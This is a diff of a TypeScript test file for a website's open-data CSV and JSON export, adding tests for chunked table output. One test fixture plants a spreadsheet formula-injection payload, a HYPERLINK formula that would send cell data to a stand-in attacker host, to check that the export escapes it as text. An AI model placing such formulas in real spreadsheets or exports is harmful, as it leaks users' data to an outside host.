@@ -6,8 +6,8 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { suite } from "uvu";
 import * as assert from "uvu/assert";
-import { toCsv } from "../../src/render/csv.ts";
-import { openDataFiles, readSite } from "../../src/site.ts";
+import { csvChunks, toCsv } from "../../src/render/csv.ts";
+import { jsonTable, openDataFiles, readSite } from "../../src/site.ts";
 import { projectRoot, runBuild } from "../fixtures/build-site.ts";
 
 const openData = suite("open data");
@@ -64,7 +64,9 @@ openData("an organisation named like a formula reaches inspections.csv as text, 
     const file = join(project, "content/organisations/oxfordshire.md");
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Oxfordshire")';
     writeFileSync(file, readFileSync(file, "utf8").replace("name: Oxfordshire County Council", `name: '${formula}'`));
-    const files = openDataFiles(readSite(project, "content", {}));
+    const files = new Map(
+      [...openDataFiles(readSite(project, "content", {}))].map(([path, pieces]) => [path, [...pieces].join("")]),
+    );
     const csv = parse(files.get("data/inspections.csv")!, { columns: true }) as Record<string, string>[];
     const names = new Set(csv.map((row) => row.organisation_name));
     assert.ok(names.has(`'${formula}`), [...names].join(", "));
@@ -131,6 +133,20 @@ openData("every JSON file validates against the JSON Schema published beside it"
     const validate = schema(name);
     assert.ok(validate(JSON.parse(read(file))), `${file}: ${JSON.stringify(validate.errors)}`);
   }
+});
+
+openData("large tables are written in pieces that make the same text as whole", () => {
+  const about = { title: "T", licence: "L", publisher: "P", as_at: "2024-01-01", data_notes: [] };
+  const rows = Array.from({ length: 7 }, (_, index) => ({
+    id: `r${index}`,
+    text: index % 2 ? "=1+1" : 'a "b", c',
+    n: index,
+  }));
+  for (const batch of [1, 2, 3, 7, 100]) {
+    assert.is([...jsonTable(about, "rows", rows, batch)].join(""), `${JSON.stringify({ about, rows })}\n`, `${batch}`);
+    assert.is([...csvChunks(["id", "text", "n"], rows, batch)].join(""), toCsv(["id", "text", "n"], rows), `${batch}`);
+  }
+  assert.is([...jsonTable(about, "rows", [], 2)].join(""), `${JSON.stringify({ about, rows: [] })}\n`);
 });
 
 openData("data files are compact JSON, one line each; their schemas stay indented", () => {
